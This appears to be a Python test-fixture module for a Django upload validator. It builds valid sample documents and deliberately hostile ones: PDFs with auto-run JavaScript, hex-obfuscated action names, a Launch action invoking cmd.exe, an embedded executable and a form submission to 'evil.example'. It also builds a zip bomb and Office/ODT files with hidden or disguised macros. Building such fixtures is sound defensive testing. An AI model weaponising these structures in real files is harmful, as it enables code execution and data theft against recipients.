"""Small valid sample files built in memory with the standard library, and a few bad ones."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT_TYPE = "application/vnd.oasis.opendocument.text"

RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOC_REL = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
)


def pdf_bytes(
    text: str = "Verbale di verifica",
    *,
    catalog: bytes = b"",
    extra: tuple[bytes, ...] = (),
    object_stream: bool = False,
) -> bytes:
    """A one-page PDF with a correct cross-reference.

    `catalog` is added to the catalog's dictionary, `extra` are objects 6, 7... With
    `object_stream`, every object but the streams is written inside a compressed object stream
    (PDF 1.5) listed by a compressed cross-reference stream: none of them is readable in the bytes.
    """
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
        b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra,
    ]
    if object_stream:
        return _pdf_with_object_stream(objects)
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


def _pdf_with_object_stream(objects: list[bytes]) -> bytes:
    streams = {n for n, body in enumerate(objects, start=1) if b"stream\n" in body}
    packed = [n for n in range(1, len(objects) + 1) if n not in streams]
    holder = len(objects) + 1  # the object stream
    xref_number = holder + 1
    index, body = [], b""
    for n in packed:
        index.append(b"%d %d" % (n, len(body)))
        body += objects[n - 1] + b"\n"
    header = b" ".join(index) + b"\n"
    data = zlib.compress(header + body)

    out = io.BytesIO()
    out.write(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for n in sorted(streams):
        offsets[n] = out.tell()
        out.write(b"%d 0 obj\n" % n + objects[n - 1] + b"\nendobj\n")
    offsets[holder] = out.tell()
    out.write(
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n"
        % (holder, len(packed), len(header), len(data))
        + data
        + b"\nendstream\nendobj\n"
    )
    offsets[xref_number] = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for n in range(1, xref_number + 1):
        if n in offsets:
            rows.append(struct.pack(">BIH", 1, offsets[n], 0))
        else:
            rows.append(struct.pack(">BIH", 2, holder, packed.index(n)))
    table = zlib.compress(b"".join(rows))
    out.write(
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table
        + b"\nendstream\nendobj\n"
    )
    out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
    return out.getvalue()


# Active content, as it sits in real attacks. Each is the catalog's addition and its objects.
PDF_ACTIVE = {
    "javascript": (
        b"/OpenAction 6 0 R",
        (b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",),
    ),
    "hex-escaped": (b"/OpenAction 6 0 R", (b"<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>",)),
    "launch": (
        b"/OpenAction 6 0 R",
        (b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",),
    ),
    "names-javascript": (
        b"/Names << /JavaScript 6 0 R >>",
        (b"<< /Names [(avvio) 7 0 R] >>", b"<< /S /JavaScript /JS (this.print()) >>"),
    ),
    "embedded-file": (
        b"/Names << /EmbeddedFiles 6 0 R >>",
        (
            b"<< /Names [(fattura.exe) 7 0 R] >>",
            b"<< /Type /Filespec /F (fattura.exe) /EF << /F 8 0 R >> >>",
            b"<< /Length 2 >>\nstream\nMZ\nendstream",  # /Type /EmbeddedFile is optional
        ),
    ),
    "xfa": (
        b"/AcroForm << /Fields [] /XFA 6 0 R >>",
        (b"<< /Length 7 >>\nstream\n<xdp/>\nendstream",),
    ),
    "submit-form": (
        b"/OpenAction << /S /SubmitForm /F (https://evil.example/raccolta) >>",
        (),
    ),
}


def orphan_object_stream_pdf_bytes() -> bytes:
    """JavaScript in an object stream that the cross-reference does not use (left over from an
    earlier version of the file, or planted for a viewer that rebuilds a damaged file)."""
    data = zlib.compress(b"9 0\n<< /S /JavaScript /JS (app.alert(1)) >>")
    return pdf_bytes(
        extra=(
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(data)
            + data
            + b"\nendstream",
        )
    )


def active_pdf_bytes(kind: str, *, object_stream: bool = False) -> bytes:
    catalog, extra = PDF_ACTIVE[kind]
    return pdf_bytes(catalog=catalog, extra=extra, object_stream=object_stream)


def linked_pdf_bytes() -> bytes:
    """Harmless actions every real document has: a web link, a jump to a page, a named action."""
    return pdf_bytes(
        catalog=b"/OpenAction [3 0 R /Fit] /Outlines 6 0 R",
        extra=(
            b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
            b"<< /Title (Sito) /Parent 6 0 R /A << /S /URI /URI (https://bollinoblu.example/) >> "
            b"/Next 8 0 R >>",
            b"<< /Title (Stampa) /Parent 6 0 R /A << /S /Named /N /Print >> >>",
        ),
    )


def encrypted_pdf_bytes(user_password: str = "segreta") -> bytes:
    """A PDF encrypted by pypdf (RC4, needs no extra library); with an empty user password it
    opens without asking, but its objects are still encrypted."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password=user_password, owner_password="proprietario", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bytes(width: int = 2, height: int = 2) -> bytes:
    """An RGB PNG, all blue."""
    row = b"\x00" + b"\x00\x33\x99" * width  # filter byte, then pixels
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(row * height))
        + _png_chunk(b"IEND", b"")
    )


# A 1×1 baseline JPEG (white), the classic smallest valid file.
JPEG_1X1 = bytes.fromhex(
    "ffd8ffe000104a46494600010100000100010000ffdb004300080606070605080707070909080a0c140d0c0b0b"
    "0c1912130f141d1a1f1e1d1a1c1c20242e2720222c231c1c2837292c30313434341f27393d38323c2e333432"
    "ffc0000b080001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a"
    "0bffc400b5100002010303020403050504040000017d01020300041105122131410613516107227114328191"
    "a1082342b1c11552d1f02433627282090a161718191a25262728292a3435363738393a434445464748494a53"
    "5455565758595a636465666768696a737475767778797a838485868788898a92939495969798999aa2a3a4a5"
    "a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2"
    "f3f4f5f6f7f8f9faffda0008010100003f00fbd3ffd9"
)


def jpeg_bytes() -> bytes:
    return JPEG_1X1


def _zip(entries: list[tuple[str, bytes, int]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data, method in entries:
            archive.writestr(zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0)), data, method)
    return out.getvalue()


def _content_types(main_part: str, main_type: str, extra: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{main_part}" ContentType="{main_type}"/>'
        f"{extra}</Types>"
    ).encode()


def _root_rels(target: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{OFFICE_DOC_REL}" Target="{target}"/>'
        "</Relationships>"
    ).encode()


def docx_bytes(
    text: str = "Procedura di gestione del consenso",
    *,
    types: str = "",
    extra: tuple[tuple[str, bytes], ...] = (),
    main_type: str = DOCX_TYPE + ".main+xml",
) -> bytes:
    """A DOCX; `types` is added to [Content_Types].xml, `extra` are more (name, data) parts,
    `main_type` is the document's content type (a DOCM has a macro-enabled one)."""
    document = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    deflated = zipfile.ZIP_DEFLATED
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types("/word/document.xml", main_type, types),
                deflated,
            ),
            ("_rels/.rels", _root_rels("word/document.xml"), deflated),
            ("word/document.xml", document, deflated),
            *((name, data, deflated) for name, data in extra),
        ]
    )


def xlsx_bytes(main_type: str = XLSX_TYPE + ".main+xml") -> bytes:
    """An XLSX; `main_type` is the workbook's content type (an XLSM has a macro-enabled one)."""
    workbook = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<sheets><sheet name="Formazione" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    workbook_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f'<Relationships xmlns="{RELS_NS}">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
        'Target="worksheets/sheet1.xml"/></Relationships>'
    ).encode()
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Operatore</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    sheet_override = (
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    )
    deflated = zipfile.ZIP_DEFLATED
    return _zip(
        [
            (
                "[Content_Types].xml",
                _content_types("/xl/workbook.xml", main_type, sheet_override),
                deflated,
            ),
            ("_rels/.rels", _root_rels("xl/workbook.xml"), deflated),
            ("xl/workbook.xml", workbook, deflated),
            ("xl/_rels/workbook.xml.rels", workbook_rels, deflated),
            ("xl/worksheets/sheet1.xml", sheet, deflated),
        ]
    )


def odt_bytes(
    text: str = "Registro della formazione",
    *,
    declared: str = "",
    extra: tuple[tuple[str, bytes], ...] = (),
    doctype: str = "",
) -> bytes:
    """An ODT; `declared` is added to the manifest, `extra` are more (name, data) entries."""
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f"{doctype}"
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
        'manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" manifest:version="1.2" '
        f'manifest:media-type="{ODT_TYPE}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        f"{declared}</manifest:manifest>"
    ).encode()
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f"<office:body><office:text><text:p>{text}</text:p></office:text></office:body>"
        "</office:document-content>"
    ).encode()
    return _zip(
        [
            ("mimetype", ODT_TYPE.encode("ascii"), zipfile.ZIP_STORED),
            ("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED),
            ("content.xml", content, zipfile.ZIP_DEFLATED),
            *((name, data, zipfile.ZIP_DEFLATED) for name, data in extra),
        ]
    )


def exe_bytes() -> bytes:
    """The start of a Windows executable: "MZ", the DOS stub, the PE header."""
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
    stub += struct.pack("<I", 64)  # e_lfanew
    return stub + b"PE\x00\x00" + b"\x00" * 200 + b"This program cannot be run in DOS mode."


def html_bytes() -> bytes:
    return b"<!doctype html><html><body><script>alert(1)</script></body></html>"


def plain_zip_bytes() -> bytes:
    return _zip([("note.txt", b"non sono un documento", zipfile.ZIP_DEFLATED)])


def zip_bomb_bytes(uncompressed_mb: int) -> bytes:
    """A DOCX-shaped archive whose document expands to `uncompressed_mb` MB of zeros."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            "[Content_Types].xml",
            _content_types("/word/document.xml", DOCX_TYPE + ".main+xml"),
        )
        archive.writestr("_rels/.rels", _root_rels("word/document.xml"))
        with archive.open("word/document.xml", "w", force_zip64=True) as handle:
            block = b"\x00" * (1024 * 1024)
            for _ in range(uncompressed_mb):
                handle.write(block)
    return out.getvalue()


def spread_out_docx_bytes(megabytes: int) -> bytes:
    """A sound DOCX with `megabytes` images of 1 MB of zeros each: small, but large expanded."""
    block = b"\x00" * (1024 * 1024)
    return docx_bytes(extra=tuple((f"word/media/image{i}.png", block) for i in range(megabytes)))


# Macros and embedded programs, each as (name, build). The parts' content is not what matters.
VBA_TYPE = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
BASIC_MODULE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" '
    b'script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub</script:module>'
)
OFFICE_ACTIVE = {
    "docx-vba": (
        "procedura.docx",
        lambda: docx_bytes(types=VBA_TYPE, extra=(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),)),
    ),
    "docx-vba-undeclared": (
        "procedura.docx",
        lambda: docx_bytes(extra=(("custom/VBAPROJECT.BIN", b"\xd0\xcf\x11\xe0"),)),
    ),
    "docx-vba-renamed": (
        "procedura.docx",
        lambda: docx_bytes(
            types='<Override PartName="/word/dati.dat" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
            extra=(("word/dati.dat", b"\xd0\xcf\x11\xe0"),),
        ),
    ),
    "docm": ("procedura.docx", lambda: docx_bytes(main_type=DOCM_MAIN)),
    "docx-activex": (
        "modulo.docx",
        lambda: docx_bytes(extra=(("word/activeX/activeX1.xml", b"<ax:ocx/>"),)),
    ),
    "docx-ole": (
        "modulo.docx",
        lambda: docx_bytes(extra=(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),)),
    ),
    "xlsx-macro-enabled": ("registro.xlsx", lambda: xlsx_bytes(main_type=XLSM_MAIN)),
    "odt-basic": (
        "informativa.odt",
        lambda: odt_bytes(extra=(("Basic/Standard/Module1.xml", BASIC_MODULE),)),
    ),
    "odt-scripts": (
        "informativa.odt",
        lambda: odt_bytes(extra=(("Scripts/python/avvio.py", b"import os"),)),
    ),
    "odt-declared-scripts": (
        "informativa.odt",
        lambda: odt_bytes(
            declared='<manifest:file-entry manifest:full-path="Scripts/python/avvio.py" '
            'manifest:media-type=""/>'
        ),
    ),
    "odt-declared-basic-type": (
        "informativa.odt",
        lambda: odt_bytes(
            declared='<manifest:file-entry manifest:full-path="Libreria/" '
            'manifest:media-type="application/vnd.sun.star.basic"/>'
        ),
    ),
    # Shaped as an ODT (so stored as one) but holding a Word macro: saved as .docx, Word runs it.
    "odt-with-word-macro": (
        "informativa.docx",
        lambda: odt_bytes(extra=(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"),)),
    ),
}


def many_entries_zip_bytes(count: int) -> bytes:
    entries = [
        (
            "[Content_Types].xml",
            _content_types("/word/document.xml", DOCX_TYPE + ".main+xml"),
            zipfile.ZIP_DEFLATED,
        ),
        ("word/document.xml", b"<w:document/>", zipfile.ZIP_DEFLATED),
    ]
    entries += [(f"word/media/{i}.txt", b"x", zipfile.ZIP_STORED) for i in range(count)]
    return _zip(entries)


SAMPLES = {
    "pdf": ("verbale.pdf", pdf_bytes, "application/pdf"),
    "png": ("schermata.png", png_bytes, "image/png"),
    "jpeg": ("foto sede.jpg", jpeg_bytes, "image/jpeg"),
    "docx": ("procedura.docx", docx_bytes, DOCX_TYPE),
    "xlsx": ("registro formazione.xlsx", xlsx_bytes, XLSX_TYPE),
    "odt": ("informativa.odt", odt_bytes, ODT_TYPE),
}


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    """What Django hands a view: the browser's name and content type, neither to be trusted."""
    return SimpleUploadedFile(name, data, content_type=content_type)


def sample_upload(kind: str) -> SimpleUploadedFile:
    name, build, content_type = SAMPLES[kind]
    return upload(name, build(), content_type)
